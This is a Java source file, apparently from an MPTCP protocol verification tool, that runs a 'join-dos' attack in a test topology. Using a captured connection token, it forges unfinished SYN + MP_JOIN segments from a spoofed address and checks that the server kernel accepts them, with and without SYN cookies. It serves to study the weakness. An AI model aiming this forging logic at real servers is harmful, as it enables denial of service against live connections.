package org.mptcpverify.kernel;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.vocab.AttackId;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * join-dos: from the captured handshake alone the attacker sends lone SYN + MP_JOIN with the
 * connection's token (token of the captured server key) from its own address, and never completes
 * them. Twice: with the server namespace's default SYN cookie setting (cookies only when the
 * listener's backlog overflows, so each SYN leaves a request socket), then with
 * {@code net.ipv4.tcp_syncookies = 2} (a cookie for every SYN). Success: in both phases the server
 * kernel answers every SYN with a SYN/ACK + MP_JOIN whose HMAC-B is the one computed from the
 * captured keys (it attached the SYN to the victim connection), and in the first phase `ss` shows
 * the request sockets in SYN-RECV. With cookies no request socket is left; the kernel keeps the
 * join's state (nonces, connection) in its join-cookie table, which no tool shows.
 */
public final class JoinDos implements KernelAttack {
    /** Lone SYN + MP_JOIN per phase: more than Linux's default `subflows` limit, to show it does not bound them. */
    static final int SYNS = 4;

    @Override
    public Profile profile() {
        return Profile.of(AttackId.JOIN_DOS, WRONG_KEYS);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        CapturedConnection c = ctx.fresh();
        int before = synRecv(ctx);
        int answered = phase(ctx, c, "without SYN cookies");
        int held = synRecv(ctx) - before;
        ctx.note("server kernel: " + held + " request sockets in SYN-RECV for port " + c.serverPort()
                + " (ss -Htn state syn-recv, server namespace)");
        // written through /proc rather than sysctl(8), which a minimal system may lack
        Commands.runIn(ctx.topology().server(), "sh", "-c", "echo 2 > /proc/sys/net/ipv4/tcp_syncookies");
        int beforeCookies = synRecv(ctx);
        int answeredCookies = phase(ctx, c, "with SYN cookies (net.ipv4.tcp_syncookies=2)");
        int heldCookies = synRecv(ctx) - beforeCookies;
        ctx.note("server kernel with SYN cookies: " + heldCookies + " new request sockets in SYN-RECV");
        Map<String, Long> delta = ctx.serverCounterDelta();
        ctx.note("server MIB counters changed: " + delta);
        return answered == SYNS && held >= SYNS && answeredCookies == SYNS;
    }

    /** Sends {@link #SYNS} lone SYN + MP_JOIN; returns how many drew a SYN/ACK with a valid HMAC-B. */
    private static int phase(AttackContext ctx, CapturedConnection c, String label) throws IOException {
        Wiretap tap = ctx.tap();
        int valid = 0;
        String other = "";
        for (int i = 0; i < SYNS; i++) {
            int port = 40_000 + ctx.random().nextInt(20_000);
            long isn = ctx.random().nextLong() & 0xffffffffL;
            int randomA = ctx.random().nextInt();
            int mark = tap.size();
            tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), isn, 0,
                    TcpSegment.SYN, Forge.WINDOW, List.of(Forge.mss(1460),
                            Forge.mptcp(new MptcpOption.MpJoinSyn(0, 3, c.serverToken(), randomA))), Bytes.empty()));
            Optional<Wiretap.Seen> reply = tap.await(mark, t -> ForgedJoin.toAttacker(t, port), 2_000);
            Optional<MptcpOption.MpJoinSynAck> sa = reply.flatMap(r -> r.segment().has(TcpSegment.SYN)
                    ? CapturedConnection.option(r.segment(), MptcpOption.MpJoinSynAck.class) : Optional.empty());
            if (sa.isPresent() && MptcpCrypto.constantTimeEquals(sa.get().truncatedHmac(), MptcpCrypto.joinSynAckHmac(
                    c.hash(), c.serverKey(), c.clientKey(), sa.get().senderRandom(), randomA))) {
                valid++;
            } else if (other.isEmpty()) {
                other = reply.map(r -> "flags 0x" + Integer.toHexString(r.segment().flags()) + " "
                        + KernelReply.of(r.segment()).options()).orElse("no reply within 2 s");
            }
        }
        ctx.note("attacker " + label + ": " + SYNS + " lone SYN + MP_JOIN (token " + String.format("%08x", c.serverToken())
                + ") from " + Topology.FORGED.getHostAddress() + ", never completed; server kernel answered " + valid
                + " with SYN/ACK + MP_JOIN whose HMAC-B equals the one computed from the captured keys"
                + (other.isEmpty() ? "" : "; otherwise: " + other));
        return valid;
    }

    private static int synRecv(AttackContext ctx) throws IOException {
        return Ss.synRecv(ctx.topology().server());
    }
}
